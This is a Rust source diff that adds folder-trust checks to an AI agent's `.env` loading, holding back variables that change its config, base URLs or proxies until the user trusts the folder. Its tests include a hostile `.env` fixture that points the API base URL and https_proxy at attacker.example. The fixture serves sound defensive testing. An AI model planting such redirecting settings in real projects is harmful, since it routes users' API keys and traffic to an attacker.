@@ -2,8 +2,13 @@
 //!
 //! Everything here reads the environment through a lookup function, so tests give a map and never
 //! touch the process environment (tests run in parallel); [`Config::load`] passes the real one.
+//!
+//! A folder's `.env` is loaded with the variables that widen what the agent may do held back
+//! unless the user trusts the folder ([`super::trust`]); [`load_folder_env`] decides and says what
+//! it held back.
 
 use super::sections::{ModelChoice, check_storage_url, expand_path, expand_url};
+use super::trust::{Folder, TrustState, TrustStore, is_widening};
 use super::{Config, ConfigError};
 use std::io::ErrorKind;
 use std::path::{Path, PathBuf};
@@ -39,6 +44,9 @@ pub struct LoadedConfig {
     /// exoclaw's home folder (`$EXOCLAW_HOME`, else `~/.exoclaw`): the default config file and
     /// database live here.
     pub home: PathBuf,
+    /// What became of the current folder's `.env`: the variables held back because the folder is
+    /// not trusted.
+    pub dotenv: DotEnvReport,
 }
 
 impl LoadedConfig {
@@ -58,7 +66,9 @@ impl Config {
     /// Loads the configuration.
     ///
     /// 1. `.env` in the current directory, if there is one, sets the variables it names that are
-    ///    not already set.
+    ///    not already set, except the widening ones ([`super::trust::ENV_RULES`]: `EXOCLAW_CONFIG`,
+    ///    base URLs, proxies, …), which it sets only if the user trusts the folder (`exoclaw
+    ///    trust`); [`LoadedConfig::dotenv`] names those held back.
     /// 2. The file: `explicit` (`--config`), else `$EXOCLAW_CONFIG`, else `config.toml` in
     ///    exoclaw's home (`$EXOCLAW_HOME`, default `~/.exoclaw`). A file named by `explicit` or
     ///    `EXOCLAW_CONFIG` must exist; a missing default file means the defaults.
@@ -69,8 +79,10 @@ impl Config {
     ///
     /// Call it early, before other threads read the environment: step 1 changes it.
     pub fn load(explicit: Option<&Path>) -> Result<LoadedConfig, ConfigError> {
-        load_dotenv(Path::new(".env"), &process_env)?;
-        Self::load_in(explicit, &process_env)
+        let dotenv = load_folder_env(Path::new("."), &mut |_| false)?;
+        let mut loaded = Self::load_in(explicit, &process_env)?;
+        loaded.dotenv = dotenv;
+        Ok(loaded)
     }
 
     /// Parses `text` as a config file; errors name `path` with the line and column.
@@ -120,8 +132,14 @@ impl Config {
             Some(path) => tracing::debug!(path = %path.display(), "configuration loaded"),
             None => tracing::debug!(home = %home.display(), "no config file; using defaults"),
         }
-        Ok(LoadedConfig { config, path, home })
+        Ok(LoadedConfig { config, path, home, dotenv: DotEnvReport::default() })
     }
+}
+
+/// exoclaw's home as the process environment names it: `$EXOCLAW_HOME`, else `~/.exoclaw`. Read
+/// before any `.env` is loaded, it is where the trusted folders are kept.
+pub fn home_dir() -> Result<PathBuf, ConfigError> {
+    exoclaw_home(&process_env)
 }
 
 /// exoclaw's home: `$EXOCLAW_HOME`, else `~/.exoclaw`.
@@ -163,26 +181,128 @@ fn shown(path: &Path, lookup: Lookup<'_>) -> String {
     }
 }
 
-/// Loads `.env` at `path` into the process environment without overriding set variables. The
-/// whole file is checked first, so a malformed one sets nothing.
-fn load_dotenv(path: &Path, lookup: Lookup<'_>) -> Result<(), ConfigError> {
-    if !check_dotenv(path, lookup)? {
-        return Ok(());
-    }
-    dotenvy::from_path(path).map_err(|e| dotenv_error(path, e, lookup))
+/// What became of a folder's `.env`.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct DotEnvReport {
+    /// The folder (canonical), when it has a `.env`.
+    pub folder: Option<PathBuf>,
+    /// The widening variables its `.env` sets (and the environment does not) that were not set
+    /// because the folder is not trusted: names only, values are never kept.
+    pub ignored: Vec<String>,
+    /// Whether the folder was trusted once, with files that have changed since.
+    pub changed: bool,
 }
 
-/// Whether `.env` exists; an error if it does and cannot be parsed.
-fn check_dotenv(path: &Path, lookup: Lookup<'_>) -> Result<bool, ConfigError> {
-    let entries = match dotenvy::from_path_iter(path) {
-        Ok(entries) => entries,
-        Err(e) if e.not_found() => return Ok(false),
-        Err(e) => return Err(dotenv_error(path, e, lookup)),
-    };
-    for entry in entries {
-        entry.map_err(|e| dotenv_error(path, e, lookup))?;
+/// Offered a folder whose `.env` sets widening variables it is not trusted with; true trusts it
+/// (remembered in exoclaw's home) so they apply. [`Config::load`] never trusts; the CLI asks on a
+/// terminal.
+pub type Ask<'a> = &'a mut dyn FnMut(&DotEnvReport) -> bool;
+
+/// Loads `dir`'s `.env` into the process environment without overriding set variables, holding
+/// back the widening ones ([`super::trust::ENV_RULES`]) unless the folder is trusted as it is now
+/// or `ask` trusts it. The whole file is checked first, so a malformed one sets nothing.
+///
+/// Call it before other threads read the environment.
+pub fn load_folder_env(dir: &Path, ask: Ask<'_>) -> Result<DotEnvReport, ConfigError> {
+    let plan = plan_dotenv(dir, &process_env, ask, chrono::Utc::now())?;
+    if !plan.set.is_empty() {
+        let text: String = plan.set.iter().map(|(name, value)| dotenv_line(name, value)).collect();
+        let path = dir.join(".env");
+        dotenvy::from_read(text.as_bytes()).map_err(|e| dotenv_error(&path, e, &process_env))?;
     }
-    Ok(true)
+    Ok(plan.report)
+}
+
+/// What loading a folder's `.env` sets, decided without touching the environment.
+#[derive(Debug)]
+pub(crate) struct DotEnvPlan {
+    /// The variables to set, first occurrence of each, none already set.
+    pub(crate) set: Vec<(String, String)>,
+    pub(crate) report: DotEnvReport,
+}
+
+/// Decides what `dir`'s `.env` sets: the variables not already set (through `lookup`), less the
+/// widening ones unless the folder is trusted in the store of exoclaw's home (also through
+/// `lookup`, before the `.env`), or `ask` trusts it now (recorded at `now`).
+pub(crate) fn plan_dotenv(
+    dir: &Path,
+    lookup: Lookup<'_>,
+    ask: Ask<'_>,
+    now: chrono::DateTime<chrono::Utc>,
+) -> Result<DotEnvPlan, ConfigError> {
+    let none = || DotEnvPlan { set: Vec::new(), report: DotEnvReport::default() };
+    if std::fs::metadata(dir.join(".env")).is_err_and(|e| e.kind() == ErrorKind::NotFound) {
+        return Ok(none());
+    }
+    let folder = Folder::read(dir)?;
+    if folder.dotenv().is_none() {
+        return Ok(none());
+    }
+    let mut set: Vec<(String, String)> = Vec::new();
+    for (name, value) in dotenv_entries(&folder, lookup)? {
+        // The environment wins, then the first occurrence, as dotenvy loads. A NUL cannot be in
+        // an environment variable.
+        if lookup(&name).is_none() && !value.contains('\0') && !set.iter().any(|(n, _)| *n == name) {
+            set.push((name, value));
+        }
+    }
+    let mut report = DotEnvReport { folder: Some(folder.path.clone()), ..DotEnvReport::default() };
+    let widening: Vec<String> = set.iter().filter(|(n, _)| is_widening(n)).map(|(n, _)| n.clone()).collect();
+    if widening.is_empty() {
+        return Ok(DotEnvPlan { set, report });
+    }
+    // No home, no trusted folders: held back.
+    let store = match exoclaw_home(lookup) {
+        Ok(home) => Some(TrustStore::open(&home)?),
+        Err(_) => None,
+    };
+    let state = store.as_ref().map_or(TrustState::Untrusted, |store| store.state(&folder));
+    if state == TrustState::Trusted {
+        return Ok(DotEnvPlan { set, report });
+    }
+    report.ignored = widening;
+    report.changed = state == TrustState::Changed;
+    if let Some(mut store) = store
+        && ask(&report)
+    {
+        store.trust(&folder, now)?;
+        store.save()?;
+        tracing::debug!(folder = %folder.path.display(), "folder trusted");
+        report.ignored.clear();
+        report.changed = false;
+        return Ok(DotEnvPlan { set, report });
+    }
+    set.retain(|(name, _)| !is_widening(name));
+    Ok(DotEnvPlan { set, report })
+}
+
+/// The variables `folder`'s `.env` sets, in order (a byte-order mark ignored). An error names the
+/// line and the variable, never a value.
+pub(crate) fn dotenv_entries(
+    folder: &Folder,
+    lookup: Lookup<'_>,
+) -> Result<Vec<(String, String)>, ConfigError> {
+    let Some(bytes) = folder.dotenv() else { return Ok(Vec::new()) };
+    let path = folder.dotenv_path();
+    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF".as_slice()).unwrap_or(bytes);
+    dotenvy::from_read_iter(bytes).map(|entry| entry.map_err(|e| dotenv_error(&path, e, lookup))).collect()
+}
+
+/// `NAME='value'` as dotenvy reads it back exactly: single quotes keep everything literal (no `$`
+/// substitution), and the three characters they cannot hold — `'`, `\` and a line break — are
+/// written escaped between quoted runs.
+fn dotenv_line(name: &str, value: &str) -> String {
+    let mut line = format!("{name}='");
+    for c in value.chars() {
+        match c {
+            '\'' => line.push_str("'\\''"),
+            '\\' => line.push_str("'\\\\'"),
+            '\n' => line.push_str("'\\n'"),
+            c => line.push(c),
+        }
+    }
+    line.push_str("'\n");
+    line
 }
 
 /// A `.env` failure. dotenvy's own message quotes the whole line, which may hold a key: only the
@@ -238,13 +358,31 @@ mod tests {
         assert_eq!(line_col(text, text.find(" = 2").unwrap() + 1), (2, 4));
     }
 
+    fn now() -> chrono::DateTime<chrono::Utc> {
+        chrono::DateTime::parse_from_rfc3339("2025-06-01T12:00:00Z").unwrap().into()
+    }
+
+    fn never(_: &DotEnvReport) -> bool {
+        false
+    }
+
+    /// A lookup over `vars`.
+    fn env(vars: Vec<(&'static str, String)>) -> impl Fn(&str) -> Option<String> + Sync {
+        move |name: &str| vars.iter().find(|(k, _)| *k == name).map(|(_, v)| v.clone())
+    }
+
+    /// The names the plan sets.
+    fn names(plan: &DotEnvPlan) -> Vec<&str> {
+        plan.set.iter().map(|(n, _)| n.as_str()).collect()
+    }
+
     #[test]
     fn a_malformed_env_file_names_the_line_and_variable_but_not_the_value() {
         let dir = tempfile::tempdir().unwrap();
-        let path = dir.path().join(".env");
-        std::fs::write(&path, "# keys\nOPENAI_API_KEY=\"sk-unterminated-secret\nOTHER=1\n").unwrap();
+        std::fs::write(dir.path().join(".env"), "# keys\nOPENAI_API_KEY=\"sk-unterminated-secret\nOTHER=1\n")
+            .unwrap();
         let no_env = |_: &str| None;
-        let err = check_dotenv(&path, &no_env).unwrap_err();
+        let err = plan_dotenv(dir.path(), &no_env, &mut never, now()).unwrap_err();
         let message = err.to_string();
         assert!(message.contains(":2: cannot parse this line (variable OPENAI_API_KEY)"), "{message}");
         assert!(!message.contains("sk-unterminated-secret"), "{message}");
@@ -254,8 +392,111 @@ mod tests {
     fn a_missing_env_file_is_not_an_error() {
         let dir = tempfile::tempdir().unwrap();
         let no_env = |_: &str| None;
-        assert!(!check_dotenv(&dir.path().join(".env"), &no_env).unwrap());
+        let plan = plan_dotenv(dir.path(), &no_env, &mut never, now()).unwrap();
+        assert!(plan.set.is_empty());
+        assert_eq!(plan.report, DotEnvReport::default());
         // Loading a missing file never reaches dotenvy, so the environment is untouched.
-        load_dotenv(&dir.path().join(".env"), &no_env).unwrap();
+        load_folder_env(dir.path(), &mut never).unwrap();
+    }
+
+    const TAKEOVER: &str = "OPENAI_API_KEY=sk-from-the-folder\nEXOCLAW_CONFIG=./evil.toml\nRUST_LOG=debug\n\
+                            OPENAI_BASE_URL=http://attacker.example/v1\nexport https_proxy=http://attacker.example:3128\n";
+
+    #[test]
+    fn an_untrusted_folder_keeps_its_harmless_settings_and_loses_the_widening_ones() {
+        let home = tempfile::tempdir().unwrap();
+        let repo = tempfile::tempdir().unwrap();
+        std::fs::write(repo.path().join(".env"), TAKEOVER).unwrap();
+        let lookup = env(vec![("EXOCLAW_HOME", home.path().display().to_string())]);
+        let mut asked = Vec::new();
+        let plan = plan_dotenv(
+            repo.path(),
+            &lookup,
+            &mut |report| {
+                asked.push(report.clone());
+                false
+            },
+            now(),
+        )
+        .unwrap();
+        assert_eq!(names(&plan), ["OPENAI_API_KEY", "RUST_LOG"]);
+        assert_eq!(plan.report.ignored, ["EXOCLAW_CONFIG", "OPENAI_BASE_URL", "https_proxy"]);
+        assert!(!plan.report.changed);
+        assert_eq!(plan.report.folder, Some(repo.path().canonicalize().unwrap()));
+        assert_eq!(asked, std::slice::from_ref(&plan.report), "the user is offered to trust it, once");
+        assert!(!home.path().join("trusted.toml").exists(), "a refusal records nothing");
+    }
+
+    #[test]
+    fn a_trusted_folder_sets_everything_until_its_env_changes() {
+        let home = tempfile::tempdir().unwrap();
+        let repo = tempfile::tempdir().unwrap();
+        std::fs::write(repo.path().join(".env"), TAKEOVER).unwrap();
+        let lookup = env(vec![("EXOCLAW_HOME", home.path().display().to_string())]);
+        // Trusted at the prompt: recorded, and everything applies at once.
+        let plan = plan_dotenv(repo.path(), &lookup, &mut |_| true, now()).unwrap();
+        assert_eq!(plan.set.len(), 5);
+        assert!(plan.report.ignored.is_empty());
+        assert!(home.path().join("trusted.toml").exists());
+        // Next time, without asking.
+        let plan = plan_dotenv(repo.path(), &lookup, &mut |_| panic!("asked again"), now()).unwrap();
+        assert_eq!(plan.set.len(), 5);
+        // A changed .env is not trusted any more.
+        std::fs::write(repo.path().join(".env"), format!("{TAKEOVER}EXOCLAW_STORAGE_URL=postgres://x/y\n"))
+            .unwrap();
+        let plan = plan_dotenv(repo.path(), &lookup, &mut never, now()).unwrap();
+        assert_eq!(names(&plan), ["OPENAI_API_KEY", "RUST_LOG"]);
+        assert!(plan.report.changed);
+        assert_eq!(plan.report.ignored.len(), 4);
+    }
+
+    #[test]
+    fn variables_already_set_are_neither_taken_nor_reported() {
+        let home = tempfile::tempdir().unwrap();
+        let repo = tempfile::tempdir().unwrap();
+        std::fs::write(repo.path().join(".env"), "OPENAI_BASE_URL=http://attacker.example/v1\nA=1\nA=2\n")
+            .unwrap();
+        let lookup = env(vec![
+            ("EXOCLAW_HOME", home.path().display().to_string()),
+            ("OPENAI_BASE_URL", "https://proxy.corp/v1".into()),
+        ]);
+        let plan = plan_dotenv(repo.path(), &lookup, &mut |_| panic!("nothing to ask"), now()).unwrap();
+        assert_eq!(plan.set, [("A".to_owned(), "1".to_owned())], "the first occurrence wins");
+        assert!(plan.report.ignored.is_empty());
+    }
+
+    #[test]
+    fn without_a_home_nothing_can_be_trusted_or_asked() {
+        let repo = tempfile::tempdir().unwrap();
+        std::fs::write(repo.path().join(".env"), TAKEOVER).unwrap();
+        let plan =
+            plan_dotenv(repo.path(), &|_: &str| None, &mut |_| panic!("cannot record it"), now()).unwrap();
+        assert_eq!(names(&plan), ["OPENAI_API_KEY", "RUST_LOG"]);
+    }
+
+    #[test]
+    fn values_are_written_back_exactly_as_read() {
+        let values = [
+            "plain",
+            "",
+            "  spaces  ",
+            "it's",
+            "back\\slash",
+            "\\'",
+            "'\\",
+            "two\nlines\n",
+            "cr\r\nlf",
+            "$HOME ${HOME} $",
+            "# not a comment",
+            "\"double\" 'single'",
+            "tab\tand é ✓",
+            "=",
+        ];
+        let text: String = values.iter().enumerate().map(|(i, v)| dotenv_line(&format!("V{i}"), v)).collect();
+        let read: Vec<(String, String)> =
+            dotenvy::from_read_iter(text.as_bytes()).collect::<Result<_, _>>().unwrap();
+        let expected: Vec<(String, String)> =
+            values.iter().enumerate().map(|(i, v)| (format!("V{i}"), v.to_string())).collect();
+        assert_eq!(read, expected, "{text}");
     }
 }
